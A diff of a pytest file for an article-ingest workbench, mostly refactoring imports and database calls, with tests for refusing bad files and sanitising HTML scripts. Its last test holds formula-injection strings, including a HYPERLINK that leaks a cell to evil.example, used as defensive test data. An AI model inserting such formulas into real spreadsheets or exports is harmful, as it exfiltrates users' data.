@@ -19,11 +19,12 @@ from conftest import FakeEmbedder
 from streamlit.testing.v1 import AppTest
 
 import workbench
-from workbench import ingest
 from workbench.cli import cli
-from workbench.db import open_db
-from workbench.ingest import BadLinesError, IngestError, read_paths, read_upload
+from workbench.formats import files
+from workbench.formats.articles import read_paths, read_upload
+from workbench.formats.files import BadLinesError, IngestError
 from workbench.pipeline import ingest_paths, seed_samples
+from workbench.store import open_db
 
 CORPUS = Path(__file__).parent / "fixtures" / "bad_input"
 PAGES = Path(workbench.__file__).parent / "ui" / "views"
@@ -84,7 +85,7 @@ def seeded_template(tmp_path_factory):
     path = tmp_path_factory.mktemp("template") / "seeded.db"
     db = open_db(path)
     seed_samples(db, FakeEmbedder())
-    db.conn.close()  # checkpoints the WAL, so the one file holds everything
+    db.sqlite_db.conn.close()  # checkpoints the WAL, so the one file holds everything
     return path
 
 
@@ -163,7 +164,7 @@ def test_library_refuses_a_bad_file_and_stores_nothing(db_file, tmp_path, fake_e
     db = open_db(db_file)
     with pytest.raises(IngestError) as info:
         ingest_paths(db, [str(good_file(tmp_path)), str(bad)], fake_embedder)
-    db.conn.close()
+    db.sqlite_db.conn.close()
     assert str(info.value) == f"{bad}{REFUSED[name]}"
     assert snapshot(db_file) == before
 
@@ -182,13 +183,13 @@ def test_huge_files_are_refused_quickly_with_a_clear_message(db_file, tmp_path, 
     huge.write_text("Headline\n" + line * (50 * 1024 * 1024 // len(line)), encoding="utf-8")
     size = huge.stat().st_size
     assert size > 50_000_000
-    chars = f"text is {size:,} characters, over the limit of {ingest.MAX_TEXT_CHARS:,}"
+    chars = f"text is {size:,} characters, over the limit of {files.MAX_TEXT_CHARS:,}"
     # over 200 MB: a sparse file, refused from its size without being read
     oversized = tmp_path / "oversized.txt"
     with oversized.open("wb") as f:
-        f.truncate(ingest.MAX_FILE_BYTES + 1)
+        f.truncate(files.MAX_FILE_BYTES + 1)
     bytes_message = (
-        f"file is {ingest.MAX_FILE_BYTES + 1:,} bytes, over the limit of {ingest.MAX_FILE_BYTES:,}"
+        f"file is {files.MAX_FILE_BYTES + 1:,} bytes, over the limit of {files.MAX_FILE_BYTES:,}"
     )
     before = snapshot(db_file)
 
@@ -202,13 +203,13 @@ def test_huge_files_are_refused_quickly_with_a_clear_message(db_file, tmp_path, 
         db = open_db(db_file)
         with pytest.raises(IngestError, match="^" + re.escape(f"{path}: {message}") + "$"):
             ingest_paths(db, [str(good_file(tmp_path)), str(path)], fake_embedder)
-        db.conn.close()
+        db.sqlite_db.conn.close()
         timings[f"library {path.name}"] = time.perf_counter() - start
     start = time.perf_counter()
     with pytest.raises(IngestError, match="^" + re.escape(f"huge.txt: {chars}") + "$"):
         read_upload("huge.txt", huge.read_bytes())
     with pytest.raises(IngestError, match="^" + re.escape(f"big.txt: {bytes_message}") + "$"):
-        read_upload("big.txt", bytes(ingest.MAX_FILE_BYTES + 1))  # calloc'd: costs no time
+        read_upload("big.txt", bytes(files.MAX_FILE_BYTES + 1))  # calloc'd: costs no time
     timings["upload"] = time.perf_counter() - start
     assert snapshot(db_file) == before
     # measured about 0.1 s each; a generous bound, so only a real slowdown (cleaning 50 MB first) fails it
@@ -223,7 +224,7 @@ def test_latin1_text_ingests_with_the_encoding_option_and_keeps_its_umlauts(db_f
     result = workbench_cli("ingest", "--db", db_file, "--encoding", "latin-1", latin1)
     assert result.exit_code == 0, result.output
     assert result.stdout.startswith("1 article(s) added")
-    title, text = open_db(db_file).execute("SELECT title, text FROM articles ORDER BY id DESC").fetchone()
+    title, text = open_db(db_file).sqlite_db.execute("SELECT title, text FROM articles ORDER BY id DESC").fetchone()
     assert title == "Überschrift: Straßensperrung in München"
     assert "Die Straße in München ist seit 2021 gesperrt, sagte der Bürgermeister." in text
     assert "Anwohner ärgern sich" in text
@@ -234,7 +235,7 @@ def test_latin1_text_ingests_with_the_encoding_option_and_keeps_its_umlauts(db_f
     assert (article.title, article.text) == (title, text)
     other = open_db(tmp_path / "other.db")
     report = ingest_paths(other, [str(latin1)], fake_embedder, encoding="latin-1")
-    assert len(report.added) == 1 and other.execute("SELECT text FROM articles").fetchone()[0] == text
+    assert len(report.added) == 1 and other.sqlite_db.execute("SELECT text FROM articles").fetchone()[0] == text
 
 
 # --- bad lines in batches ---------------------------------------------------------------------------------
@@ -246,7 +247,7 @@ def test_skip_bad_lines_ingests_the_good_lines_and_reports_the_bad(db_file, name
     path = CORPUS / name
     result = workbench_cli("ingest", "--db", db_file, "--skip-bad-lines", path)
     assert result.exit_code == 0, result.output
-    stored = open_db(db_file).execute("SELECT external_id FROM articles WHERE source = ?", [name]).fetchall()
+    stored = open_db(db_file).sqlite_db.execute("SELECT external_id FROM articles WHERE source = ?", [name]).fetchall()
     assert [r[0] for r in stored] == good_ids
 
     reported = result.stderr.splitlines()
@@ -276,10 +277,10 @@ def test_skip_bad_lines_in_the_library_and_upload(tmp_path):
     ]
     assert str(skipped[3]) == f'{path} line 6: "text" must be a string, not int'
     assert (
-        ingest.describe_bad_lines(skipped)
+        files.describe_bad_lines(skipped)
         == f"{path} lines 2, 4, 5, 6, 8, 9; {CORPUS}/csv_bad_rows.csv lines 3, 5, 6"
     )
-    assert ingest.describe_bad_lines(skipped, limit=7).endswith("csv_bad_rows.csv line 3 and 2 more")
+    assert files.describe_bad_lines(skipped, limit=7).endswith("csv_bad_rows.csv line 3 and 2 more")
     uploaded = []
     rows = read_upload(
         "rows.csv", (CORPUS / "csv_bad_rows.csv").read_bytes(), skip_bad=True, skipped=uploaded
@@ -299,12 +300,12 @@ def test_html_scripts_and_event_attributes_never_reach_the_database(db_file):
     page = CORPUS / "html_script_onerror.html"
     assert workbench_cli("ingest", "--db", db_file, page).exit_code == 0
     db = open_db(db_file)
-    title, text, url = db.execute(
+    title, text, url = db.sqlite_db.execute(
         "SELECT title, text, url FROM articles WHERE source = ?", [page.name]
     ).fetchone()
     claims = [
         r[0]
-        for r in db.execute(
+        for r in db.sqlite_db.execute(
             "SELECT c.text || ' ' || c.sentence FROM claims c JOIN articles a"
             " ON a.id = c.article_id WHERE a.source = ?",
             [page.name],
@@ -344,8 +345,8 @@ def test_the_app_shows_quoted_markup_only_escaped(db_file, monkeypatch):
     quoted, scripted = CORPUS / "html_markup_as_text.html", CORPUS / "html_script_onerror.html"
     assert workbench_cli("ingest", "--db", db_file, quoted, scripted).exit_code == 0
     db = open_db(db_file)
-    article = db.execute("SELECT id FROM articles WHERE source = ?", [quoted.name]).fetchone()[0]
-    claim = db.execute("SELECT id FROM claims WHERE text LIKE '%onerror%'").fetchone()[0]
+    article = db.sqlite_db.execute("SELECT id FROM articles WHERE source = ?", [quoted.name]).fetchone()[0]
+    claim = db.sqlite_db.execute("SELECT id FROM claims WHERE text LIKE '%onerror%'").fetchone()[0]
 
     at_articles = page("articles")
     option = next(o for o in at_articles.selectbox(key="article").options if o.startswith(f"{article}:"))
@@ -431,7 +432,7 @@ def test_the_app_upload_reads_latin1_when_that_encoding_is_chosen(db_file, monke
     at.button(key="add").click().run()
     assert not at.exception and not at.error and at.success[0].value.startswith("1 article(s) added")
     title, text = (
-        open_db(db_file).execute("SELECT title, text FROM articles ORDER BY id DESC LIMIT 1").fetchone()
+        open_db(db_file).sqlite_db.execute("SELECT title, text FROM articles ORDER BY id DESC LIMIT 1").fetchone()
     )
     assert title == "Überschrift: Straßensperrung in München"
     assert text.startswith("Die Straße in München ist seit 2021 gesperrt, sagte der Bürgermeister.")
@@ -443,7 +444,7 @@ def test_the_app_upload_reads_latin1_when_that_encoding_is_chosen(db_file, monke
 def test_formula_looking_text_is_stored_as_text_and_exported_spreadsheet_safe(db_file, tmp_path):
     text_file, rows_file = CORPUS / "formula_like_text.txt", CORPUS / "formula_like_rows.csv"
     assert workbench_cli("ingest", "--db", db_file, text_file, rows_file).exit_code == 0
-    titles = [r[0] for r in open_db(db_file).execute("SELECT title FROM articles ORDER BY id")]
+    titles = [r[0] for r in open_db(db_file).sqlite_db.execute("SELECT title FROM articles ORDER BY id")]
     assert titles[-4:] == [
         '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the report")',
         '=HYPERLINK("https://evil.example","report")',
